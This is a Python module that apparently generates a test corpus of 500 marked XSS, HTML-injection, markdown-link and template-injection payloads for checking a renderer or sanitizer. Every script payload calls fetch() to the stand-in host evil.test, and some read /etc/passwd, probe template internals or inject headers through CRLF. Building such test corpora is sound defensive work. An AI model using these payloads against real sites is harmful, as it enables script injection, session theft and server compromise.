"""Texts that want to be more than text: 500 of them, made here, each with a mark by which it is found again.

Each tries one way to run a script, to make a browser ask another server, to be taken for the page's own words, or to
break what draws it. What it would do is the same everywhere: write `pwned` on the page, and ask evil.test for its mark.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import count, product
from urllib.parse import quote

COUNT = 500
EVIL = "evil.test"
PRODUCT = ("191*7919", "1512529")  # what a template would make of the first


def mark(number: int) -> str:
    return f"m{number:03d}z"


def payloads() -> list[str]:
    found: dict[str, str] = {}
    for number, make in zip(count(), _ways()):
        text = make.replace("MARK", mark(number)).replace("EVIL", f"{EVIL}/{mark(number)}")
        found.setdefault(text, text)
    several = list(found)
    assert len(several) >= COUNT, len(several)
    return several[:COUNT]


_JS = "document.documentElement.dataset.pwned='MARK';fetch('//EVIL')"
_EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter",
    "onbegin", "onbeforeinput", "onscrollend", "onwheel",
)  # fmt: skip
_TAGS = (
    "<img src=x {on}={js}>", "<svg {on}={js}>", "<body {on}={js}>", "<details open {on}={js}>x</details>",
    "<input autofocus {on}={js}>", "<video src=//EVIL {on}={js}></video>", "<a href=# {on}={js}>MARK</a>",
    "<svg><animate {on}={js} attributeName=x dur=1s></svg>", "<math><mi {on}={js}>x</mi></math>",
)  # fmt: skip
_QUOTED = ('"{js}"', "'{js}'", "`{js}`", "{js}")
_BREAKOUTS = (
    '">{tag}', "'>{tag}", "</title>{tag}", "</textarea>{tag}", "</script>{tag}", "</style>{tag}", "-->{tag}",
    "]]>{tag}", "</pre>{tag}", "</option></select>{tag}", "</svg>{tag}", "</svg></title>{tag}", "</summary>{tag}",
    "</td></table>{tag}", "</template>{tag}", "</noscript>{tag}",
)  # fmt: skip
_SCRIPTS = (
    "<script>{js}</script>", "<ScRiPt>{js}</sCrIpT>", "<script src=//EVIL></script>", "<script\x0c>{js}</script>",
    "<script/x>{js}</script>", "<<script>{js}//<</script>", "<svg><script>{js}</script></svg>",
    "<svg><script href=//EVIL /></svg>", "<script type=module>import '//EVIL'</script>", "<script\n>{js}</script\n>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>", "<scr\x00ipt>{js}</scr\x00ipt>",
)  # fmt: skip
_SCHEMES = (
    "javascript:{js}", "JaVaScRiPt:{js}", "java\tscript:{js}", "java\nscript:{js}", "\x01javascript:{js}",
    "javascript&colon;{js}", "&#106;avascript:{js}", "&#x6A;avascript:{js}", "javascript://%0a{js}", " javascript:{js}",
    "vbscript:{js}", "data:text/html,<script>{js}</script>", "data:text/html;base64,PHNjcmlwdD5hKDEpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload={js}>", "file:///etc/passwd", "blob:http://x/MARK", "view-source:http://x",
    "//EVIL", "\\\\EVIL", "http:\\\\EVIL", "ht\ttp://EVIL",
)  # fmt: skip
_LINKS = (
    "[MARK]({url})", "[MARK](<{url}>)", "[MARK]({url} \"t\")", "[MARK][r]\n\n[r]: {url}", "<{url}>", "![MARK]({url})",
    "[![MARK]({url})]({url})", "<a href=\"{url}\">MARK</a>", "<a xlink:href='{url}'>MARK</a>", "<iframe src='{url}'>",
    "<form action='{url}'><button>MARK</button></form>", "<object data='{url}'>", "<base href='{url}'>",
    "<meta http-equiv=refresh content='0;url={url}'>", "<link rel=stylesheet href='{url}'>", "<embed src='{url}'>",
)  # fmt: skip
_PHONE = (
    "<img src=http://EVIL>", "<img srcset='http://EVIL 1x'>", "![MARK](http://EVIL)",
    "<picture><source srcset=//EVIL></picture>",
    "<style>@import '//EVIL'</style>", "<p style=\"background:url(//EVIL)\">MARK</p>", "<audio src=//EVIL autoplay>",
    "<track src=//EVIL>", "<svg><image href=//EVIL /></svg>", "<svg><use href='//EVIL#x'/></svg>",
    "<link rel=preload as=image href=//EVIL>", "<link rel=dns-prefetch href=//EVIL>", "<table background=//EVIL>",
    "<iframe srcdoc='<img src=//EVIL>'>", "<input type=image src=//EVIL>", "<svg><feImage href=//EVIL /></svg>",
    "<style>*{background:url(//EVIL)}</style>", "<xml-stylesheet href=//EVIL>", "<?xml-stylesheet href='//EVIL'?>",
    "<video poster=//EVIL></video>", "<body background=//EVIL>", "[MARK]: http://EVIL 'x'\n![MARK]",
)  # fmt: skip
_TEMPLATES = (
    "{{ 191*7919 }} MARK", "{% for x in range(9) %}MARK{% endfor %}", "{{ self.__init__.__globals__ }} MARK",
    "${191*7919} MARK", "#{191*7919} MARK", "<%= 191*7919 %> MARK", "{{'MARK'.__class__.__mro__}}", "{# MARK #}",
    "{{ caller.name }}{{ config }} MARK", "{% include '/etc/passwd' %}MARK", "[[191*7919]] MARK", "@(191*7919) MARK",
)  # fmt: skip
_DISGUISED = (
    "MARK \u202eedoc si siht", "MARK \u2066hidden\u2069", "\u200fMARK", "MARK\u2028<script>{js}</script>",
    "MARK\x1b[2J", "MARK\x1b]8;;http://EVIL\x07x", "MARK\x00\x01\x02", "MARK\u061c",
    "\ufeffMARK<script>{js}</script>", "MARK\r\nSet-Cookie: x=1", "\ud83d MARK", "MARK \udcff\udcfe",
    "＜script＞{js}＜/script＞ MARK", "‹script›MARK", "%3Cscript%3E{js}%3C/script%3E MARK",
    "&lt;script&gt;{js}&lt;/script&gt; MARK", "&amp;lt;img src=x onerror={js}&amp;gt; MARK",
    "\\u003cscript\\u003e{js} MARK", "+ADw-script+AD4-{js}+ADw-/script+AD4- MARK",
    "<!--MARK--><!--[if IE]><script>{js}</script><![endif]-->",
)  # fmt: skip
_MARKDOWN = (
    "`<img src=x onerror={js}>` MARK", "```html\n<script>{js}</script>\nMARK\n```", "~~~\" onload=\"{js}\nMARK\n~~~",
    "```x onmouseover={js}\nMARK\n```", "    <script>{js}</script> MARK", "> <script>{js}</script> MARK",
    "# <img src=x onerror={js}> MARK", "| <img src=x onerror={js}> | MARK |\n|---|---|\n| a | b |",
    "* <script>{js}</script> MARK", "1. <svg onload={js}> MARK", "<div>\n\n<script>{js}</script> MARK\n\n</div>",
    "[a](javas&Tab;cript:{js}) MARK", "[MARK](javascript&#58;{js})", "<http://x\"onclick={js}>MARK",
    "[MARK](http://x \"onclick={js}\")", "[MARK](http://x 'title\" onmouseover=\"{js}')",
    "~~<script>{js}</script>~~ MARK",
    "**<img src=x onerror={js}>** MARK", "\\<script>{js}</script> MARK", "<script\n>{js}\n</script> MARK",
    "[" * 60 + "MARK" + "](javascript:{js})" * 3, "> " * 80 + "MARK <script>{js}</script>",
    "<x" * 30 + " onclick={js}>MARK",
)  # fmt: skip


def _ways() -> Iterator[str]:
    for script in _SCRIPTS:
        yield script.replace("{js}", _JS) + " MARK"
    for way in (*_PHONE, *_TEMPLATES, *_DISGUISED, *_MARKDOWN):
        yield way.replace("{js}", _JS) if "MARK" in way else way + " MARK"
    for breakout, script in product(_BREAKOUTS, _SCRIPTS[:4]):
        yield breakout.replace("{tag}", script.replace("{js}", _JS)) + " MARK"
    for link, scheme in product(_LINKS, _SCHEMES):
        made = link.replace("{url}", scheme.replace("{js}", _JS.replace(" ", "")))
        yield made if "MARK" in made else made + " MARK"
    for tag, event, quoted in product(_TAGS, _EVENTS, _QUOTED):
        if (len(tag) + len(event) + len(quoted)) % 3:  # some of each, and no way left out
            continue
        made = tag.replace("{on}", event).replace("{js}", quoted.replace("{js}", _JS))
        yield made if "MARK" in made else made + " MARK"


def as_file_name(text: str, ending: str) -> str:
    """As much of it as the name of a file can be."""
    kept = "".join(one for one in text if one.isprintable() and one not in "/\\" and not 0xD800 <= ord(one) <= 0xDFFF)
    return short(kept).strip(" .") + ending


def short(text: str, most: int = 60) -> str:
    """So much of it, and its mark."""
    found = re.search(r"m\d{3}z", text)
    begins = text[:most].strip(" .")
    return begins if found is None or found[0] in begins else f"{begins} {found[0]}"


def as_address(text: str) -> str:
    return quote(text.encode("utf-8", "replace"), safe="")
